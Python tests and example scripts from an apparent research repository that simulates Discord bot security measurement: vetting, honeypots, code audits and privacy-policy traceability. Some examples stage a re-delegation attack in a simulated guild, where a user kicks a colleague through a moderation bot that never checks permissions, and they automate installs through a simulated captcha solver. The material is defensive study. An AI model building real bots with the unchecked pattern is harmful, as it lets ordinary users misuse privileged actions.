@pytest.fixture(scope="module")
def materialized_sharded_golden() -> bytes:
    return _comparable_json(AssessmentPipeline(config=_config(shards=4)).run())


class TestPipelineByteIdentity:
    @pytest.mark.parametrize("chunk_size", [16, 37, 512])
    def test_streamed_sequential_matches_materialized(self, chunk_size, materialized_golden):
        streamed = AssessmentPipeline(config=_config(stream=True, chunk_size=chunk_size)).run()
        assert _comparable_json(streamed) == materialized_golden

    def test_streamed_sharded_matches_materialized(self, materialized_sharded_golden):
        streamed = AssessmentPipeline(config=_config(stream=True, chunk_size=16, shards=4)).run()
        assert _comparable_json(streamed) == materialized_sharded_golden

    def test_streamed_checkpointed_matches_materialized(self, materialized_golden, tmp_path):
        config = _config(
            stream=True,
            chunk_size=16,
            checkpoint_path=str(tmp_path / "ckpt.json"),
            journal_path=str(tmp_path / "journal.wal"),
        )
        streamed = AssessmentPipeline(config=config).run()
        assert _comparable_json(streamed) == materialized_golden
        resumed = AssessmentPipeline(config=config).run()
        assert _comparable_json(resumed) == materialized_golden


class TestMemoryBounds:
    #: Fixed ceiling on traced peak for pure stream consumption.  Measured
    #: ~1.25 MB at both 5k and 50k bots; 8 MB fails loudly on any O(n)
    #: regression (materializing 50k bots traces >50 MB).
    STREAM_CEILING_BYTES = 8 * 1024 * 1024

    def _traced_stream_peak(self, n_bots: int) -> int:
        tracemalloc.start()
        try:
            count = sum(1 for _ in iter_bots(seed=2022, n_bots=n_bots))
            assert count == n_bots
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_stream_peak_under_fixed_ceiling(self):
        """5x10^4 bots streamed: peak traced memory under a fixed ceiling,
        and no larger than a 10x smaller run (size independence)."""
        small = self._traced_stream_peak(5_000)
        large = self._traced_stream_peak(50_000)
        assert large < self.STREAM_CEILING_BYTES, f"streamed peak {large / 1e6:.1f}MB breached the fixed ceiling"
        assert large < 1.5 * small, (
            f"streamed peak grew with population: {small / 1e6:.2f}MB @5k -> {large / 1e6:.2f}MB @50k"
        )

    def _traced_pipeline_peak(self, n_bots: int) -> int:
        config = PipelineConfig(
            n_bots=n_bots,
            seed=7,
            honeypot_sample_size=8,
            validation_sample_size=10,
            stream=True,
            chunk_size=64,
        )
        world = PipelineWorld.build(config)
        # Shrink the bounded caches far below both population sizes so the
        # comparison measures the accumulators, not cache fill: the audit
        # ring, the dynamic-host LRU, and the lazy-bot profile cache all
        # saturate within the smaller run.
        world.internet.log = deque(maxlen=500)
        world.internet.dynamic_host_limit = 64
        world.ecosystem.bots._cache_size = 128
        tracemalloc.start()
        try:
            AssessmentPipeline(config=config, world=world).run()
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_streamed_pipeline_grows_sublinearly(self):
        """4x the population must cost well under 2x the peak memory.

        Documented linear-but-small accumulators remain (RiskSummary's
        per-active-bot score lists, the developer tally, crawl listing-id
        dedup) at tens of bytes per bot; retaining whole per-bot objects
        again (~KB per bot, as TraceabilitySummary once did) pushes the
        ratio past 2 and fails here.
        """
        small = self._traced_pipeline_peak(300)
        large = self._traced_pipeline_peak(1_200)
        assert large < 1.9 * small, (
            f"streamed pipeline peak grew near-linearly: "
            f"{small / 1e6:.2f}MB @300 -> {large / 1e6:.2f}MB @1200 bots"
        )
