"""Vetting gate: the paper's mitigation as a long-lived service.

Section 7 recommends "stricter scrutiny when developers collect data and a
continuous rigorous vetting process".  This example stands that process up
as a *service* on the virtual internet: a marketplace queries
``https://vetting.gate/vet/{bot}`` before listing a submission, verdicts
are cached until the listing changes, and the service degrades gracefully
(skipped honeypot, stale verdicts, explicit shedding) instead of failing
under load or chaos.

Usage:
    python examples/vetting_gate.py [n_bots] [chaos_profile]

``chaos_profile`` is one of calm/flaky/hostile/outage (default: calm); the
demo is runnable under full hostile chaos — the serving contract holds.
"""

import dataclasses
import json
import sys

from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.ecosystem.policies import PolicySpec
from repro.serving import LoadScript, ServicePolicy, ServingHarness, VettingService
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.web.chaos import FaultSchedule
from repro.web.client import HttpClient
from repro.web.network import VirtualClock, VirtualInternet


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 500
    chaos = sys.argv[2] if len(sys.argv) > 2 else None

    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=n_bots, seed=2022, honeypot_window=100))
    clock = VirtualClock()
    internet = VirtualInternet(clock, seed=2022)
    BotWebsiteBuilder(ecosystem).register(internet)
    if chaos:
        internet.install_chaos(FaultSchedule(chaos, seed=2022))

    policy = ServicePolicy(warmup=0.0, honeypot_observation=3_600.0)
    service = VettingService(internet, ecosystem.bots, policy=policy, seed=2022)
    client = HttpClient(internet, client_id="marketplace")

    print(f"Vetting service up on https://{service.hostname} "
          f"({len(service.directory)} listed bots{', chaos: ' + chaos if chaos else ''}).")

    # A marketplace burst: repeats hit the verdict cache, updates invalidate.
    harness = ServingHarness(internet, service, seed=2022)
    report = harness.run(LoadScript(waves=3, requests_per_wave=20, wave_gap=1_800.0, update_every=9))
    for line in report.summary_lines():
        print(f"  {line}")

    # Three crafted submissions through the live gate.
    print("\nDynamic gate on three crafted submissions (full vet, then cached):")
    base = next(b for b in ecosystem.bots if b.has_valid_permissions and b.behavior == behaviors.BENIGN)
    for behavior in (behaviors.BENIGN, behaviors.NOSY_OPERATOR, behaviors.SLEEPER):
        submission = dataclasses.replace(base)
        submission.name = f"Submission-{behavior}"
        submission.behavior = behavior
        submission.permissions = Permissions.of(
            Permission.SEND_MESSAGES, Permission.VIEW_CHANNEL, Permission.READ_MESSAGE_HISTORY
        )
        submission.policy = PolicySpec(present=True, categories=frozenset({"collect"}), link_valid=True)
        submission.github = None
        submission.website_host = None
        service.update_bot(submission)
        response = client.get(f"https://{service.hostname}/vet/{submission.name}")
        if response.status != 200:
            print(f"  {behavior:16s} -> HTTP {response.status} (chaos wall)")
            continue
        payload = json.loads(response.body)
        status = "APPROVED" if payload["approved"] else "REJECTED"
        print(f"  {behavior:16s} -> {status}  latency {payload['virtual_latency']:.0f}s "
              f"{payload['reasons'] or ''}")

    print("\nThe sleeper passed: it behaves during the review window and turns")
    print("later — the reason verdicts are cached against the *listing* and a")
    print("POST /bots/{name}/update forces a re-vet (continuous vetting).")

    # Show graceful degradation: a gate that must answer in 10 virtual
    # minutes cannot afford the sandbox and says so instead of blocking.
    strict = VettingService(
        internet,
        ecosystem.bots,
        policy=dataclasses.replace(policy, deadline=600.0),
        seed=2022,
        hostname="fast.vetting.gate",
    )
    name = ecosystem.bots[0].name
    response = client.get(f"https://{strict.hostname}/vet/{name}")
    if response.status == 200:
        payload = json.loads(response.body)
        print(f"\nUnder a 600s deadline the same vet degrades honestly: "
              f"degraded={payload['degraded']}, stages={payload['stages']}")


if __name__ == "__main__":
    main()
