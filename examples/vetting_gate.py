"""Vetting gate: would today's ecosystem survive the paper's mitigation?

Section 7 recommends "stricter scrutiny when developers collect data and a
continuous rigorous vetting process".  This example builds the measured
ecosystem, pushes every active bot through a marketplace vetting pipeline
(permission review, disclosure review, code review, sandbox honeypot) and
reports what fraction survives — then demonstrates the sleeper-bot evasion
that makes one-shot vetting insufficient.

Usage:
    python examples/vetting_gate.py [n_bots]
"""

import dataclasses
import sys

from repro.core.vetting import VettingPipeline, VettingPolicy
from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.ecosystem.policies import PolicySpec


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 1_000
    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=n_bots, seed=2022, honeypot_window=100))
    active = [bot for bot in ecosystem.bots if bot.has_valid_permissions]

    print(f"Static vetting of {len(active)} active bots (no sandbox, fast)...")
    static_pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=False))
    report = static_pipeline.vet_population(active)
    print(f"  approved: {len(report.approved)} ({len(report.approved) / len(active):.1%})")
    print(f"  rejected: {len(report.rejected)} ({len(report.rejected) / len(active):.1%})")
    for reason, count in sorted(report.rejection_reasons().items(), key=lambda item: -item[1]):
        print(f"    {count:6d}  {reason}")

    print("\nDynamic gate on three crafted submissions:")
    base = next(b for b in active if b.behavior == behaviors.BENIGN)
    pipeline = VettingPipeline(seed=7)
    for behavior in (behaviors.BENIGN, behaviors.NOSY_OPERATOR, behaviors.SLEEPER):
        submission = dataclasses.replace(base)
        submission.name = f"Submission-{behavior}"
        submission.behavior = behavior
        submission.permissions = Permissions.of(
            Permission.SEND_MESSAGES, Permission.VIEW_CHANNEL, Permission.READ_MESSAGE_HISTORY
        )
        submission.policy = PolicySpec(present=True, categories=frozenset({"collect"}), link_valid=True)
        submission.github = None
        verdict = pipeline.review(submission)
        status = "APPROVED" if verdict.approved else "REJECTED"
        print(f"  {behavior:16s} -> {status}  {verdict.reasons or ''}")
    print("\nThe sleeper passed: it behaves during review and turns later —")
    print("hence the paper's call for *continuous* vetting (see the")
    print("longitudinal escalation detector in repro.analysis.longitudinal).")


if __name__ == "__main__":
    main()
