"""Code audit: which open-source bots ever check the invoking user?

Crawls the GitHub links advertised on a synthetic listing site, classifies
each repository (valid / profile / empty / dead), detects the main
language, scans source files for the paper's Table-3 permission-check
APIs, and prints the per-language check-rate table plus a few concrete hit
locations.

Usage:
    python examples/code_audit.py [n_bots]
"""

import sys
from collections import Counter

from repro.analysis.code_stats import CodeAnalysisSummary
from repro.analysis.tables import render_table
from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 1_500
    config = PipelineConfig().scaled(n_bots, honeypot_sample_size=10)
    config.run_honeypot = False
    config.run_traceability = False

    world = PipelineWorld.build(config)
    pipeline = AssessmentPipeline(config, world=world)
    print(f"Crawling listing + GitHub for {n_bots} bots...")
    result = pipeline.run()

    code: CodeAnalysisSummary = result.code_summary
    print(f"\nGitHub links on listing pages: {code.github_links} "
          f"({code.github_link_percent:.2f}% of active bots)")
    print(f"Valid repositories: {code.valid_repos} ({code.valid_repo_percent_of_links:.2f}% of links)")
    print(f"With public source code: {code.with_source_code} "
          f"({code.source_percent_of_active:.2f}% of active bots)")

    print("\nLanguages (main language of valid repos):")
    for language, count in sorted(code.language_counts().items(), key=lambda item: -item[1]):
        print(f"  {language:12s} {count:5d}  ({code.language_percent(language):5.1f}%)")

    print()
    print(
        render_table(
            ("Language", "Repos analyzed", "With checks", "Percent"),
            [
                (language, analyzed, checks, f"{percent:.2f}%")
                for language, analyzed, checks, percent in code.check_table()
            ],
            title="Permission checks by language (Table 3 APIs)",
        )
    )

    print("\nExample check-API hits:")
    shown = 0
    for analysis in result.repo_analyses:
        for hit in analysis.hits[:1]:
            print(f"  {analysis.bot_name:20s} {hit.path}:{hit.line_number}  [{hit.pattern}]  {hit.line[:60]}")
            shown += 1
        if shown >= 5:
            break

    vulnerable = [a for a in result.repo_analyses if a.analyzed and not a.performs_check]
    by_language = Counter(a.main_language for a in vulnerable)
    print(f"\nRepos with NO user-permission check (re-delegation risk): {len(vulnerable)}")
    for language, count in by_language.items():
        print(f"  {language}: {count}")


if __name__ == "__main__":
    main()
