"""Longitudinal study: watching the ecosystem drift between crawls.

The paper notes that bot permissions "can also be changed at any time after
the chatbot is installed" and plans longitudinal measurement as future
work.  This example simulates six monthly crawls of the same ecosystem and
reports churn, silent permission escalations (including bots that quietly
acquired ADMINISTRATOR), policy adoption, and population-health trends.

Usage:
    python examples/longitudinal_study.py [n_bots] [epochs]
"""

import sys

from repro.analysis.longitudinal import compare_snapshots, trend
from repro.analysis.tables import render_table
from repro.ecosystem.evolution import EvolutionConfig, evolve_ecosystem
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 3_000
    epochs = int(sys.argv[2]) if len(sys.argv) > 2 else 6

    print(f"Simulating {epochs} monthly crawls of a {n_bots}-bot ecosystem...\n")
    snapshots = [generate_ecosystem(EcosystemConfig(n_bots=n_bots, seed=2022, honeypot_window=100))]
    config = EvolutionConfig()
    for epoch in range(epochs):
        next_snapshot, _ = evolve_ecosystem(snapshots[-1], config, seed=3_000 + epoch)
        snapshots.append(next_snapshot)

    rows = []
    total_escalations = 0
    admin_gainers: list[str] = []
    for epoch in range(len(snapshots) - 1):
        delta = compare_snapshots(snapshots[epoch], snapshots[epoch + 1])
        total_escalations += delta.escalation_count
        admin_gainers.extend(delta.gained_administrator())
        rows.append(
            (
                f"{epoch}->{epoch + 1}",
                len(delta.added_bots),
                len(delta.removed_bots),
                delta.escalation_count,
                len(delta.gained_administrator()),
                len(delta.policy_adopters),
                f"{delta.mean_risk_delta:+.3f}",
            )
        )
    print(
        render_table(
            ("Epoch", "Added", "Removed", "Escalated", "Gained admin", "Adopted policy", "Mean risk delta"),
            rows,
            title="Month-over-month churn",
        )
    )

    print(f"\nSilent permission escalations across the study: {total_escalations}")
    if admin_gainers:
        print(f"Bots that quietly acquired ADMINISTRATOR: {', '.join(admin_gainers[:8])}"
              + (" ..." if len(admin_gainers) > 8 else ""))
        print("Every guild that installed them earlier granted a much smaller set.")

    print()
    points = trend(snapshots)
    print(
        render_table(
            ("Epoch", "Bots", "Admin rate", "Policy rate", "Mean risk"),
            [
                (p.epoch, p.total_bots, f"{p.admin_rate * 100:.2f}%", f"{p.policy_rate * 100:.2f}%", f"{p.mean_risk:.3f}")
                for p in points
            ],
            title="Population health over time",
        )
    )


if __name__ == "__main__":
    main()
