"""Honeypot study: catch an invasive chatbot with canary tokens.

Recreates the paper's dynamic-analysis campaign at small scale: pick the
most-voted bots from a synthetic ecosystem, provision one isolated guild
per bot (5 personas, a 25-message OSN-style feed, URL/email/Word/PDF canary
tokens), observe, and attribute any token triggers — then print the
forensic trail for the one bot that snoops (the "Melonian" incident).

Usage:
    python examples/honeypot_study.py [n_bots_tested]
"""

import sys

from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem import EcosystemConfig, generate_ecosystem
from repro.honeypot import HoneypotExperiment
from repro.web.network import VirtualInternet


def main() -> None:
    sample_size = int(sys.argv[1]) if len(sys.argv) > 1 else 100

    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=1_000, seed=2022, honeypot_window=sample_size))
    platform = DiscordPlatform()
    internet = VirtualInternet(platform.clock, seed=2022)
    experiment = HoneypotExperiment(platform, internet)

    sample = ecosystem.top_voted(sample_size)
    print(f"Testing the {len(sample)} most-voted bots, one isolated guild each...")
    report = experiment.run(sample)

    installable = report.bots_tested - report.install_failures
    print(f"Installed {installable}/{report.bots_tested} bots "
          f"({report.install_failures} had broken invite links).")
    print(f"Manual mobile verifications needed: {report.manual_verifications}")
    print(f"Captcha spend: ${report.captcha_cost:.2f}")
    print(f"Total token triggers received: {len(report.triggers)}")
    print()

    explained = [o for o in report.outcomes if o.triggered and o.functionality_explained]
    if explained:
        print("Triggers explained by declared functionality (not flagged):")
        for outcome in explained:
            kinds = ", ".join(sorted(kind.value for kind in outcome.trigger_kinds))
            print(f"  - {outcome.bot_name}: {kinds} (link-preview feature)")
        print()

    if not report.flagged_bots:
        print("No unauthorized access detected.")
        return

    print("=== UNAUTHORIZED ACCESS DETECTED ===")
    for outcome in report.flagged_bots:
        kinds = ", ".join(sorted(kind.value for kind in outcome.trigger_kinds))
        print(f"Bot: {outcome.bot_name}")
        print(f"  Tokens triggered : {kinds}")
        print(f"  Post-trigger bot messages: {list(outcome.suspicious_messages)}")
        related = [record for record in report.triggers if record.context == outcome.bot_name]
        for record in related:
            print(f"  trigger t={record.time:10.1f}  kind={record.kind.value:5s}  from={record.client_id}")
    print()
    print(f"Detection precision: {report.precision:.2f}, recall: {report.recall:.2f}")


if __name__ == "__main__":
    main()
