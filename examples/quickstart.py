"""Quickstart: run the full assessment pipeline on a synthetic ecosystem.

Builds a 2,000-bot world (a scaled-down top.gg + Discord + GitHub + bot
websites), runs all four methodology stages — data collection, traceability
analysis, code analysis and the canary-token honeypot — and prints the
paper's tables and figures for the measured population.

Usage:
    python examples/quickstart.py [n_bots]
"""

import sys

from repro import AssessmentPipeline, PipelineConfig, render_full_report


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 2_000
    config = PipelineConfig().scaled(n_bots, honeypot_sample_size=min(200, n_bots))

    print(f"Building a {n_bots}-bot ecosystem and running the pipeline...")
    pipeline = AssessmentPipeline(config)
    result = pipeline.run()

    print()
    print(render_full_report(result))


if __name__ == "__main__":
    main()
