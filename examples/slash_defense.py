"""Slash-command defence: Discord's own fix for re-delegation, evaluated.

Prefix commands arrive as plain messages, so the platform cannot know which
command is privileged — the paper's measured gap.  Application (slash)
commands are routed *through* the platform, enabling per-command
``default_member_permissions`` that are enforced before the bot runs.
This example mounts the same kick command both ways and attacks each.

Usage:
    python examples/slash_defense.py
"""

from repro.discordsim.behaviors import MODERATION_UNCHECKED, build_runtime
from repro.discordsim.guild import PermissionDenied
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.discordsim.slash import SlashCommandRegistry
from repro.web.captcha import TwoCaptchaClient


def main() -> None:
    platform = DiscordPlatform()
    solver = TwoCaptchaClient(platform.clock, accuracy=1.0)
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "community")
    developer = platform.create_user("dev", phone_verified=True)
    application = platform.register_application(developer, "ModBot")
    url = build_invite_url(application.client_id, Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    platform.complete_install(
        owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, solver.solve(screen.captcha_prompt)
    )
    build_runtime(platform, application.bot_user.user_id, MODERATION_UNCHECKED)

    victim = platform.create_user("victim")
    attacker = platform.create_user("attacker")
    platform.join_guild(victim.user_id, guild.guild_id)
    platform.join_guild(attacker.user_id, guild.guild_id)
    channel = guild.text_channels()[0]

    print("1) Prefix command (!kick), unchecked bot — the measured gap:")
    platform.post_message(attacker.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
    print(f"   victim kicked? {victim.user_id not in guild.members}\n")
    platform.join_guild(victim.user_id, guild.guild_id)  # victim returns

    print("2) Slash command with default_member_permissions=KICK_MEMBERS:")
    registry = SlashCommandRegistry(platform)

    def kick_handler(interaction):
        guild.kick(application.bot_user.user_id, int(interaction.args[0]))
        interaction.respond("done")

    registry.register(
        application.client_id,
        "kick",
        kick_handler,
        default_member_permissions=Permissions.of(Permission.KICK_MEMBERS),
    )
    try:
        registry.invoke(
            attacker.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
            [str(victim.user_id)],
        )
    except PermissionDenied as error:
        print(f"   platform refused: {error}")
    print(f"   victim kicked? {victim.user_id not in guild.members}")
    print(f"   (the owner, who holds KICK_MEMBERS, can still use it:)")
    registry.invoke(
        owner.user_id, guild.guild_id, channel.channel_id, application.client_id, "kick",
        [str(victim.user_id)],
    )
    print(f"   victim kicked by owner? {victim.user_id not in guild.members}")


if __name__ == "__main__":
    main()
