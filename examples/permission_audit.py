"""Permission audit of a workplace guild: the re-delegation attack, live.

The paper's motivating scenario: a company runs its internal chat on a
messaging platform and installs a privileged moderation chatbot.  This
example builds that guild, installs two versions of the bot — one whose
developer checks the invoking user's permissions and one who does not —
and shows an ordinary employee weaponising the unchecked bot to kick a
colleague.  It finishes with the consent-screen view of what the admin
actually agreed to, including the redundant-with-administrator analysis.

Usage:
    python examples/permission_audit.py
"""

from repro.discordsim import DiscordPlatform, Permission, Permissions, build_invite_url
from repro.discordsim.behaviors import MODERATION_CHECKED, MODERATION_UNCHECKED, build_runtime
from repro.discordsim.oauth import ConsentScreen, parse_invite_url
from repro.web.captcha import TwoCaptchaClient


def install(platform, owner, guild, name, permissions):
    developer = platform.create_user(f"dev-{name}", phone_verified=True)
    application = platform.register_application(developer, name)
    url = build_invite_url(application.client_id, permissions)
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    solver = TwoCaptchaClient(platform.clock, accuracy=1.0)
    answer = solver.solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return application, url


def main() -> None:
    platform = DiscordPlatform()
    admin = platform.create_user("it-admin", phone_verified=True)
    guild = platform.create_guild(admin, "acme-corp")
    channel = guild.text_channels()[0]

    alice = platform.create_user("alice")
    bob = platform.create_user("bob")
    platform.join_guild(alice.user_id, guild.guild_id)
    platform.join_guild(bob.user_id, guild.guild_id)

    # The bot requests administrator PLUS redundant extras — the
    # misunderstanding pattern the paper flags in Section 5.
    requested = Permissions.of(
        Permission.ADMINISTRATOR, Permission.SEND_MESSAGES, Permission.KICK_MEMBERS
    )
    unchecked_app, unchecked_url = install(platform, admin, guild, "ModBotFree", requested)
    build_runtime(platform, unchecked_app.bot_user.user_id, MODERATION_UNCHECKED)

    print("== What the admin consented to ==")
    invite = parse_invite_url(unchecked_url)
    for name in invite.permissions.display_names():
        print(f"  - {name}")
    redundant = invite.permissions.redundant_with_administrator()
    print(f"Redundant with administrator: {[flag.name for flag in redundant]}")
    print()

    print("== Attack: alice (no kick permission) kicks bob via the bot ==")
    held = guild.base_permissions(alice.user_id)
    print(f"alice holds KICK_MEMBERS herself? {held.has(Permission.KICK_MEMBERS)}")
    platform.post_message(alice.user_id, guild.guild_id, channel.channel_id, f"!kick {bob.user_id}")
    print(f"bob still in guild? {bob.user_id in guild.members}")
    print(f"bot replied: {channel.messages[-1].content!r}")
    print()

    print("== Same attack against a bot that checks user permissions ==")
    platform.join_guild(bob.user_id, guild.guild_id)  # bob rejoins
    checked_app, _ = install(platform, admin, guild, "ModBotSafe", requested)
    # The safe bot listens on "?" so the unchecked bot ignores this command.
    build_runtime(platform, checked_app.bot_user.user_id, MODERATION_CHECKED, prefix="?")
    platform.post_message(alice.user_id, guild.guild_id, channel.channel_id, f"?kick {bob.user_id}")
    print(f"bob still in guild? {bob.user_id in guild.members}")
    print(f"bot replied: {channel.messages[-1].content!r}")
    print()

    print("== Audit log (who did what) ==")
    for entry in guild.read_audit_log(admin.user_id)[-6:]:
        print(f"  t={entry.time:8.1f}  actor={entry.actor_id}  {entry.action}  {entry.target}")


if __name__ == "__main__":
    main()
