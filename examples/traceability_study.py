"""Traceability study: do chatbot privacy policies cover their permissions?

Crawls every bot website in a synthetic ecosystem, hunts for privacy
policies with element locators, classifies disclosure as complete /
partial / broken using the keyword method, and reports which data-granting
permissions go entirely undisclosed.

Usage:
    python examples/traceability_study.py [n_bots]
"""

import sys
from collections import Counter

from repro.analysis.tables import render_table
from repro.analysis.traceability_stats import TraceabilitySummary
from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld


def main() -> None:
    n_bots = int(sys.argv[1]) if len(sys.argv) > 1 else 1_500
    config = PipelineConfig().scaled(n_bots, honeypot_sample_size=10)
    config.run_honeypot = False
    config.run_code_analysis = False

    world = PipelineWorld.build(config)
    pipeline = AssessmentPipeline(config, world=world)
    print(f"Crawling the listing and {n_bots}-bot website population...")
    result = pipeline.run()

    summary: TraceabilitySummary = result.traceability_summary
    print()
    print(
        render_table(
            ("Features", "Count", "Percent"),
            [(feature, count, f"{percent:.2f}%") for feature, count, percent in summary.table2()],
            title="Table 2: Discord traceability results (reproduced)",
        )
    )
    counts = summary.classification_counts()
    print(f"\nClassification: {counts['complete']} complete, {counts['partial']} partial, "
          f"{counts['broken']} broken ({summary.broken_fraction * 100:.2f}% broken)")
    print(f"Generic boilerplate among valid policies: {summary.generic_fraction_of_valid * 100:.0f}%")

    print("\nMost common undisclosed data grants (bots with a policy that")
    print("never discloses collection, by exposed data type):")
    exposure = Counter()
    for record in result.traceability_results:
        if record.policy_page_valid:
            exposure.update(record.undisclosed_data_permissions)
    for data_type, count in exposure.most_common(6):
        print(f"  {count:5d}  {data_type}")

    if result.validation:
        print(f"\nKeyword-vs-manual validation: {result.validation.sample_size} policies sampled, "
              f"{result.validation.misclassified} misclassified "
              f"(accuracy {result.validation.accuracy * 100:.1f}%)")


if __name__ == "__main__":
    main()
