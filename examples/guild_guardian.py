"""Guardian: a guild owner's defensive audit, served over the wire.

The paper recommends "stricter scrutiny" of bot data collection as the
mitigation.  This example sets up a busy guild with four installed bots —
a minimal ping bot, an over-permissioned music bot, a moderation bot, and
an administrator-everything bot — lets them run for a while, then asks the
long-lived vetting service for the audit: ``GET /audit/{guild_id}`` runs
the :class:`~repro.core.guardian.GuildGuardian` against live usage stats
and returns risk scores, redundant grants, and unused permissions.

Usage:
    python examples/guild_guardian.py [chaos_profile]

With a chaos profile (calm/flaky/hostile/outage) the audit request goes
over a degraded virtual internet; the example retries through the noise.
"""

import json
import sys

from repro.discordsim.behaviors import BENIGN, MODERATION_CHECKED, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.serving import ServicePolicy, VettingService
from repro.web.captcha import TwoCaptchaClient
from repro.web.chaos import FaultSchedule
from repro.web.client import HttpClient
from repro.web.network import VirtualClock, VirtualInternet

BOTS = (
    ("PingBot", Permissions.of(Permission.SEND_MESSAGES), BENIGN),
    (
        "GrooveBox",
        Permissions.of(
            Permission.CONNECT,
            Permission.SPEAK,
            Permission.SEND_MESSAGES,
            Permission.BAN_MEMBERS,  # why does a music bot want this?
            Permission.MANAGE_WEBHOOKS,
        ),
        BENIGN,
    ),
    (
        "ModSquad",
        Permissions.of(
            Permission.SEND_MESSAGES,
            Permission.KICK_MEMBERS,
            Permission.BAN_MEMBERS,
            Permission.MANAGE_MESSAGES,
        ),
        MODERATION_CHECKED,
    ),
    ("OmniBot", Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES, Permission.KICK_MEMBERS), BENIGN),
)


def fetch_audit(client: HttpClient, internet: VirtualInternet, url: str, attempts: int = 5):
    """GET the audit, riding out chaos walls with short virtual backoffs."""
    from repro.web.network import NetworkError

    for attempt in range(attempts):
        try:
            response = client.get(url)
        except NetworkError as error:
            print(f"  transport fault ({error}); retrying...")
            internet.clock.sleep(120.0)
            continue
        body = response.body or ""
        if response.status == 200 and not body.startswith("chaos:"):
            try:
                return json.loads(body)
            except json.JSONDecodeError:
                print("  truncated body (chaos); retrying...")
        else:
            print(f"  HTTP {response.status} (chaos wall); retrying...")
        internet.clock.sleep(120.0)
    return None


def main() -> None:
    chaos = sys.argv[1] if len(sys.argv) > 1 else None

    clock = VirtualClock()
    internet = VirtualInternet(clock, seed=7)
    if chaos:
        internet.install_chaos(FaultSchedule(chaos, seed=7))
    platform = DiscordPlatform(clock)
    solver = TwoCaptchaClient(clock, accuracy=1.0)
    owner = platform.create_user("guild-owner", phone_verified=True)
    guild = platform.create_guild(owner, "busy-community")
    channel = guild.text_channels()[0]

    # The vetting service attaches to the platform: /audit/{guild_id}
    # runs the GuildGuardian against live usage statistics.
    service = VettingService(
        internet, [], policy=ServicePolicy(warmup=0.0), seed=7, platform=platform
    )

    for name, permissions, behavior in BOTS:
        developer = platform.create_user(f"dev-{name}", phone_verified=True)
        application = platform.register_application(developer, name)
        url = build_invite_url(application.client_id, permissions)
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = solver.solve(screen.captcha_prompt)
        platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
        runtime = build_runtime(platform, application.bot_user.user_id, behavior)
        service.register_api_client(runtime.api)

    # Some organic activity so usage stats mean something.
    for content in ("!ping", "hello all", "!info", "!poll pizza or tacos", "!ping"):
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, content)

    client = HttpClient(internet, client_id="guild-owner")
    audit_url = f"https://{service.hostname}/audit/{guild.guild_id}"
    print(f"GET {audit_url}{' under ' + chaos + ' chaos' if chaos else ''}")
    payload = fetch_audit(client, internet, audit_url)
    if payload is None:
        print("audit unavailable after retries; the service shed honestly")
        return

    print(f"\nAudited {len(payload['bots'])} installed bots "
          f"({payload['high_risk']} high-risk, latency {payload['virtual_latency']:.1f}s virtual):")
    for audit in payload["bots"]:
        flag = "HIGH RISK" if audit["high_risk"] else "ok       "
        print(f"  {flag}  {audit['bot']:10s} risk {audit['risk']:.2f}")
        if audit["redundant_with_admin"]:
            print(f"             requests administrator plus redundant: {', '.join(audit['redundant_with_admin'])}")
        if audit["granted_but_unused"]:
            print(f"             granted but never used: {', '.join(audit['granted_but_unused'])}")
        if audit["data_exposure"]:
            print(f"             can reach: {', '.join(audit['data_exposure'])}")


if __name__ == "__main__":
    main()
