"""Guardian: a guild owner's defensive audit of installed bots.

The paper recommends "stricter scrutiny" of bot data collection as the
mitigation.  This example sets up a busy guild with four installed bots —
a minimal ping bot, an over-permissioned music bot, a moderation bot, and
an administrator-everything bot — lets them run for a while, then prints
the Guardian audit: risk scores, redundant grants, data exposure, and the
permissions each bot was granted but never used.

Usage:
    python examples/guild_guardian.py
"""

from repro.core.guardian import GuildGuardian
from repro.discordsim.behaviors import BENIGN, MODERATION_CHECKED, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.web.captcha import TwoCaptchaClient

BOTS = (
    ("PingBot", Permissions.of(Permission.SEND_MESSAGES), BENIGN),
    (
        "GrooveBox",
        Permissions.of(
            Permission.CONNECT,
            Permission.SPEAK,
            Permission.SEND_MESSAGES,
            Permission.BAN_MEMBERS,  # why does a music bot want this?
